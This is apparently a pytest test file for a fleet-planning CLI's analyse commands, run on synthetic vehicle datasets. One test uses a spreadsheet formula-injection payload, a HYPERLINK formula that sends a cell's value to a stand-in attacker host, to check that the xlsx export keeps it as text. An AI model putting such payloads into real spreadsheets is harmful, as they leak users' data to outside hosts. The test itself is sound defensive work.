"""``fleetplan analyse`` on a reference folder, a SQLite database and to xlsx."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from fleetplan.cli import app
from fleetplan.cli.analyse_command import write_xlsx
from fleetplan.ingest import read_dataset
from tests.conftest import reference_path

runner = CliRunner()


def _json(args: list[str]) -> dict:
    result = runner.invoke(app, ["analyse", *args, "--json"])
    assert result.exit_code == 0, result.output
    return json.loads(result.output)


def test_peaks_json_gives_max_concurrent_per_location() -> None:
    """synth_50v_60d has one location; its peak is meta's 33."""
    folder = reference_path("synth_50v_60d")
    payload = _json(["peaks", "--data", str(folder)])
    assert [(p["location_id"], p["max_concurrent"]) for p in payload["locations"]] == [
        ("1", 33)
    ]


def test_short_trips_json_gives_shares() -> None:
    """49 of 4,942 trips are under 6 km -> 0.0099."""
    folder = reference_path("synth_50v_60d")
    payload = _json(["short-trips", "--data", str(folder)])
    assert payload["share_of_trips"] == pytest.approx(49 / 4942, abs=1e-4)
    assert 0 < payload["share_of_km"] < payload["share_of_trips"]


def test_filters_and_period() -> None:
    """One vehicle and one week: vehicle 1 only, within the week."""
    folder = reference_path("synth_20v_30d")
    payload = _json(
        [
            "utilisation",
            "--data",
            str(folder),
            "--vehicles",
            "1",
            "--start",
            "2026-03-02T00:00:00",
            "--end",
            "2026-03-09T00:00:00",
        ]
    )
    assert [v["vehicle_id"] for v in payload["vehicles"]] == ["1"]
    assert payload["period"]["end"] == "2026-03-09T00:00:00"


def test_database_and_xlsx(tmp_path: Path) -> None:
    """The same peak from a SQLite database, written as xlsx with one sheet per
    table."""
    from fleetplan.store import create_engine_for, save_dataset, upgrade_database

    folder = reference_path("synth_20v_30d")
    url = f"sqlite:///{tmp_path / 'fleet.sqlite'}"
    engine = create_engine_for(url)
    upgrade_database(engine)
    save_dataset(engine, read_dataset(folder))
    engine.dispose()
    from_folder = _json(["peaks", "--data", str(folder)])
    from_db = _json(["peaks", "--db", url])
    assert (
        from_db["overall"]["max_concurrent"] == from_folder["overall"]["max_concurrent"]
    )
    out = tmp_path / "peaks.xlsx"
    result = runner.invoke(app, ["analyse", "peaks", "--db", url, "--xlsx", str(out)])
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    assert book.sheetnames == ["peaks", "distribution", "daily_max", "hours"]
    assert book["peaks"]["B1"].value == "max_concurrent"


def test_business_case_inputs_are_editable() -> None:
    """--saving-per-vehicle 61,984.44 and no subscription: year 1 needs 2.79 cars."""
    folder = reference_path("synth_20v_30d")
    payload = _json(
        ["business-case", "--data", str(folder), "--saving-per-vehicle", "61984.44"]
    )
    assert payload["years"][0]["vehicles_to_phase_out"] == pytest.approx(2.79, abs=0.01)
    assert payload["inputs"]["vehicles"] == 20


def test_errors_are_clear() -> None:
    result = runner.invoke(app, ["analyse", "peaks"])
    assert result.exit_code == 2
    assert "exactly one of --data DIR and --db URL" in result.output
    result = runner.invoke(app, ["analyse", "peaks", "--data", "/nonexistent/folder"])
    assert result.exit_code == 2


def test_scenario_saving_pools_and_factor_set() -> None:
    """Scenario 1,000,000 -> 900,000 kr/yr net of the 123,040 kr tool = -23,040 kr;
    a pool of the only location; an unknown factor set is a clear error."""
    folder = reference_path("synth_20v_30d")
    payload = _json(
        [
            "business-case",
            "--data",
            str(folder),
            "--current-cost",
            "1000000",
            "--simulated-cost",
            "900000",
        ]
    )
    assert payload["scenario"]["net_saving_dkk_per_year"] == -23_040.0
    pooled = _json(["peaks", "--data", str(folder), "--pool", "ALL=1"])
    assert [p["location_id"] for p in pooled["locations"]] == ["ALL"]
    os2 = _json(["green-accounts", "--data", str(folder), "--factors", "os2-defaults"])
    assert os2["rows"][-1]["distance_km"] > 0
    result = runner.invoke(
        app, ["analyse", "peaks", "--data", str(folder), "--factors", "nope"]
    )
    assert result.exit_code == 2
    assert "unknown factor set" in result.output
    result = runner.invoke(
        app, ["analyse", "peaks", "--data", str(folder), "--pool", "X"]
    )
    assert result.exit_code == 2
    assert "NAME=LOCATION" in result.output


def test_text_output_shows_the_main_table() -> None:
    """Without --json/--xlsx a text table is printed, header first."""
    folder = reference_path("synth_20v_30d")
    result = runner.invoke(app, ["analyse", "peaks", "--data", str(folder)])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == "== peaks (2 rows)"
    assert lines[1].split()[:2] == ["location_id", "max_concurrent"]


def test_threshold_options() -> None:
    """--max-km 100 makes most synth trips short; --idle-below 1.01 marks every
    vehicle idle (none is used on more than 101 % of workdays)."""
    folder = reference_path("synth_20v_30d")
    short = _json(["short-trips", "--data", str(folder), "--max-km", "100"])
    assert short["max_km"] == 100.0
    assert short["share_of_trips"] > 0.5
    util = _json(["utilisation", "--data", str(folder), "--idle-below", "1.01"])
    assert len(util["idle_vehicle_ids"]) == 20


def test_xlsx_writes_user_text_as_text(tmp_path: Path) -> None:
    """The CLI's xlsx export keeps a formula-like plate as a text cell."""
    payload = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    out = tmp_path / "t.xlsx"
    write_xlsx({"vehicles": [{"plate": payload, "km": -1.5}]}, out)
    sheet = load_workbook(out, data_only=True)["vehicles"]
    assert [(c.value, c.data_type) for c in sheet[2]] == [(payload, "s"), (-1.5, "n")]


def test_transition_plan_is_the_milp_as_fleetplan_plan() -> None:
    """``analyse transition-plan`` makes the plan with the MILP (its engine row:
    milp, never dearer than the rule) and gives the same tables as ``fleetplan
    plan``; ``--engine rule`` keeps the lease-end rule (no engine row)."""
    folder = str(reference_path("synth_20v_30d"))
    day = ["--today", "2026-12-07"]
    milp = runner.invoke(
        app, ["analyse", "transition-plan", "--data", folder, *day, "--json"]
    )
    assert milp.exit_code == 0, milp.output
    tables = json.loads(milp.stdout)
    engine = tables["engine"][0]
    assert engine["engine"] == "milp"
    assert engine["total_dkk"] <= engine["rule_total_dkk"]
    plan = runner.invoke(app, ["plan", "--data", folder, *day, "--json"])
    assert json.loads(plan.stdout)["plan"] == tables["plan"]
    rule = runner.invoke(
        app,
        ["analyse", "transition-plan", "--data", folder, *day, "--engine", "rule"],
    )
    assert rule.exit_code == 0, rule.output
    assert "== engine" not in rule.stdout
